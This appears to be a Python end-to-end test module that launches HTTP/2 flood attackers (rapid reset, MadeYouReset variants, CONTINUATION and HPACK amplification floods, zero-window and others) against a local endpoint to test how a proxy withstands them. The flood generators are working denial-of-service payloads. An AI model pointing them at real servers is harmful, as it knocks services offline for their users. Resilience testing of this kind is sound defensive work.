"""Attackers and their target, each a process of its own: `python -m e2e.floods KIND PORT SECONDS` and `… endpoint PORT`.

An attacker sends one kind of flood over h2c as fast as it can, reads nothing while it can still write, connects again when
it is thrown out, and prints what became of it as JSON. Streams carry the number of their connection in the path, so that
the endpoint can count how many requests of one connection are under way at one moment: a request is, until it was answered
or its channel was closed. `spin` only uses CPU time: what an attacker costs its neighbours without sending anything.
"""
from __future__ import annotations

import asyncio
import json
import os
import re
import select
import socket
import struct
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from e2e.h2peers import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    number,
    setting,
)

HELD = 0.2
"""Seconds that the endpoint works on a request."""
BIG = 1 << 20
_AT_ONCE = 200
"""Streams, or frames, in one piece of a flood."""
_LAST = 2**31 - 1

Pieces = Iterator[bytes]
"""What one connection sends, piece by piece, for ever; an empty piece waits a moment, until the proxy has done its part."""
_MOMENT = 0.03


# --- the floods -----------------------------------------------------------------------------------------------------

def _literal(text: str) -> bytes:
    """A string of HPACK, not longer than 126 bytes, without Huffman's code."""
    return bytes([len(text)]) + text.encode()


def _request(connection: int, stream: int, ended: bool = True, method: bytes = b"\x82", target: str = "attack",
             more: bytes = b"") -> bytes:
    """HEADERS of a request: static table and literals only, so nothing depends on what went before."""
    block = method + b"\x86\x04" + _literal(f"/{target}/{connection}/{stream}") + b"\x01" + _literal("flood.test") + more
    return frame(HEADERS, END_HEADERS | (END_STREAM if ended else 0), stream, block)


def _streams(connection: int, behind: Callable[[int], bytes]) -> Pieces:
    """Request after request, each with something behind it that has to do with its stream."""
    first = 1
    while first < _LAST - 2 * _AT_ONCE:
        numbers = range(first, first + 2 * _AT_ONCE, 2)
        yield b"".join(_request(connection, stream) + behind(stream) for stream in numbers)
        first += 2 * _AT_ONCE
    raise AssertionError("no more streams")


def _repeated(start: bytes, piece: bytes) -> Pieces:
    yield start
    while True:
        yield piece


def _reset(connection: int) -> Pieces:
    return _streams(connection, lambda stream: frame(RST_STREAM, 0, stream, number(8)))


def _reset_behind(connection: int) -> Pieces:
    """Few enough to be let through; each stream is reset when the endpoint works on it, and others take its place."""
    first, few = 1, 40
    while True:
        numbers = range(first, first + 2 * few, 2)
        yield b"".join(_request(connection, stream) for stream in numbers)
        yield b""
        yield b"".join(frame(RST_STREAM, 0, stream, number(8)) for stream in numbers)
        first += 2 * few


def _made_you_reset(primitive: Callable[[int], bytes]) -> Callable[[int], Pieces]:
    return lambda connection: _streams(connection, primitive)


def _continuations(connection: int) -> Pieces:
    fields = b"".join(b"\x00" + _literal(f"x-{n}") + _literal("y" * 100) for n in range(20))
    start = frame(HEADERS, END_STREAM, 1, b"\x82\x86\x04" + _literal(f"/attack/{connection}/1") + b"\x01\x01x")
    return _repeated(start, frame(CONTINUATION, 0, 1, fields) * _AT_ONCE)


def _empty_continuations(connection: int) -> Pieces:
    return _repeated(frame(HEADERS, END_STREAM, 1, b"\x82"), frame(CONTINUATION, 0, 1) * _AT_ONCE)


def _empty_data(connection: int) -> Pieces:
    return _repeated(_request(connection, 1, False, b"\x83"), frame(DATA, 0, 1) * _AT_ONCE)


def _frames(one: bytes) -> Callable[[int], Pieces]:
    return lambda connection: _repeated(one, one * _AT_ONCE)


def _indexed(connection: int) -> Pieces:
    """A field of 3.9 KiB is put into the dynamic table once, then each byte refers to it."""
    size = 3900
    field = b"\x40" + _literal("x-bomb") + b"\x7f" + bytes([(size - 127) % 128 | 0x80, (size - 127) // 128]) + b"b" * size
    yield _request(connection, 1, more=field)
    stream = 3
    while True:
        yield _request(connection, stream, more=b"\xbe" * 16_000)
        stream += 2


def _crumbs(connection: int) -> Pieces:
    """Cookies in crumbs, each one byte of the static table."""
    stream = 1
    while True:
        yield _request(connection, stream, more=b"\xa0" * 16_000)
        stream += 2


def _zero_window(connection: int) -> Pieces:
    """Large answers on many streams whose windows never open."""
    yield frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 0))
    for piece in _streams(connection, lambda stream: b""):
        yield piece.replace(b"/attack/", b"/bigger/")


MADE_YOU_RESET: dict[str, Callable[[int], bytes]] = {
    "window-update-0": lambda stream: frame(WINDOW_UPDATE, 0, stream, number(0)),
    "window-overflow": lambda stream: frame(WINDOW_UPDATE, 0, stream, number(_LAST)),
    "priority-length": lambda stream: frame(PRIORITY, 0, stream, b"\0\0\0\0"),
    "priority-itself": lambda stream: frame(PRIORITY, 0, stream, number(stream) + b"\x10"),
    "headers-after-end": lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x00\x01a\x01b"),
    "data-after-end": lambda stream: frame(DATA, END_STREAM, stream, b"more"),
}
FLOODS: dict[str, Callable[[int], Pieces]] = {
    "rapid-reset": _reset,
    "reset-behind": _reset_behind,
    **{f"made-you-reset-{name}": _made_you_reset(primitive) for name, primitive in MADE_YOU_RESET.items()},
    "continuation": _continuations,
    "empty-continuation": _empty_continuations,
    "ping": _frames(frame(PING, 0, 0, b"hurry up")),
    "settings": _frames(frame(SETTINGS, 0, 0, setting(3, 100))),
    "empty-settings": _frames(frame(SETTINGS, 0, 0)),
    "empty-data": _empty_data,
    "priority": _frames(frame(PRIORITY, 0, 3, b"\0\0\0\0\x10")),
    "window-update": _frames(frame(WINDOW_UPDATE, 0, 0, number(1))),
    "unknown-frames": _frames(frame(0xFA, 0, 0, b"what")),
    "indexed-fields": _indexed,
    "cookie-crumbs": _crumbs,
    "zero-window": _zero_window,
}


# --- an attacker ----------------------------------------------------------------------------------------------------

@dataclass
class Fate:
    """What became of an attacker."""

    connections: int = 0
    ended: int = 0
    """Connections that the proxy ended."""
    goaways: Counter[int] = field(default_factory=Counter)
    """How often it was told which error code."""
    sent: int = 0
    """Bytes."""
    longest: float = 0.0
    """Seconds that one connection lived."""


class Attacker:
    def __init__(self, flood: Callable[[int], Pieces], port: int) -> None:
        self.fate = Fate()
        self._flood = flood
        self._port = port

    def run(self, seconds: float) -> Fate:
        over = time.monotonic() + seconds
        while time.monotonic() < over:
            began = time.monotonic()
            with socket.create_connection(("127.0.0.1", self._port), 5) as sock:
                self.fate.connections += 1
                self._attack(sock, over)
            self.fate.longest = max(self.fate.longest, time.monotonic() - began)
        return self.fate

    def _attack(self, sock: socket.socket, over: float) -> None:
        received = bytearray()
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            sock.setblocking(False)
            for piece in self._flood(self.fate.connections):
                self._send(sock, piece, received, over)
                if time.monotonic() >= over:
                    return
        except (ConnectionError, EOFError):
            self.fate.ended += 1
        finally:
            self._last_words(sock, received)
            self._count(received)

    def _send(self, sock: socket.socket, piece: bytes, received: bytearray, over: float) -> None:
        """Raises EOFError or ConnectionError when the proxy has had enough."""
        at = 0
        if not piece:
            time.sleep(_MOMENT)
            self._read(sock, received)
        while at < len(piece) and time.monotonic() < over:
            try:
                size = sock.send(piece[at:])
                at += size
                self.fate.sent += size
            except BlockingIOError:
                # Nothing is read as long as it can write; then all, or it would never learn that it was thrown out.
                readable, _, _ = select.select([sock], [sock], [], 0.05)
                if readable:
                    self._read(sock, received)

    def _read(self, sock: socket.socket, received: bytearray) -> None:
        while True:
            try:
                data = sock.recv(1 << 20)
            except BlockingIOError:
                return
            if not data:
                raise EOFError
            received += data

    def _last_words(self, sock: socket.socket, received: bytearray) -> None:
        try:
            sock.settimeout(0.05)
            while data := sock.recv(1 << 20):
                received += data
        except OSError:
            pass

    def _count(self, received: bytearray) -> None:
        at = 0
        while at + 9 <= len(received):
            size, kind = int.from_bytes(received[at:at + 3], "big"), received[at + 3]
            if kind == GOAWAY and at + 17 <= len(received):
                self.fate.goaways[struct.unpack("!I", received[at + 13:at + 17])[0]] += 1
            at += 9 + size


# --- the endpoint ---------------------------------------------------------------------------------------------------

class Endpoint:
    """Works on each request for a while; answers what it has seen at /seen."""

    def __init__(self) -> None:
        self._now: Counter[str] = Counter()
        self._most: Counter[str] = Counter()
        self._requests = 0

    async def serve(self, port: int) -> None:
        server = await asyncio.start_server(self._talk, "127.0.0.1", port, backlog=4096)
        async with server:
            print("listening", flush=True)
            await server.serve_forever()

    async def _talk(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                target = head.split(b" ", 2)[1].decode()
                if target == "/seen":
                    told = {"most": max(self._most.values(), default=0), "requests": self._requests}
                    self._answer(writer, json.dumps(told).encode())
                else:
                    await self._work(reader, writer, target)
                    await writer.drain()
        except (OSError, EOFError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.transport.abort()

    async def _work(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, target: str) -> None:
        """Raises EOFError if the channel is closed first."""
        found = re.match(r"/(attack|bigger)/(\d+)/", target)
        connection = found[2] if found else target
        self._requests += 1
        self._now[connection] += 1
        self._most[connection] = max(self._most[connection], self._now[connection])
        try:
            over = asyncio.get_running_loop().time() + HELD
            while (left := over - asyncio.get_running_loop().time()) > 0:
                try:
                    if not await asyncio.wait_for(reader.read(65536), left):  # a body, chunk by chunk
                        raise EOFError
                except TimeoutError:
                    break
            self._answer(writer, bytes(BIG) if found and found[1] == "bigger" else b"done")
        finally:
            self._now[connection] -= 1

    def _answer(self, writer: asyncio.StreamWriter, body: bytes) -> None:
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)


# --- processes ------------------------------------------------------------------------------------------------------

def start(*arguments: str, nice: int = 0) -> subprocess.Popen[str]:
    folders = [str(Path(__file__).resolve().parent.parent), *filter(None, [os.environ.get("PYTHONPATH")])]
    return subprocess.Popen(["nice", f"-n{nice}", sys.executable, "-m", "e2e.floods", *arguments], text=True,
                            stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                            env=os.environ | {"PYTHONPATH": os.pathsep.join(folders)})


def fate_of(process: subprocess.Popen[str], seconds: float) -> dict[str, Any]:
    """What an attacker printed when its time was over."""
    said, _ = process.communicate(timeout=seconds + 20)
    fate: dict[str, Any] = json.loads(said)
    return fate


def main(arguments: list[str]) -> None:
    kind, port = arguments[0], int(arguments[1])
    if kind == "endpoint":
        asyncio.run(Endpoint().serve(port))
        return
    seconds = float(arguments[2])
    if kind == "spin":
        over = time.monotonic() + seconds
        while time.monotonic() < over:
            pass
        return
    fate = Attacker(FLOODS[kind], port).run(seconds)
    print(json.dumps(fate.__dict__ | {"goaways": dict(fate.goaways)}))


if __name__ == "__main__":
    main(sys.argv[1:])
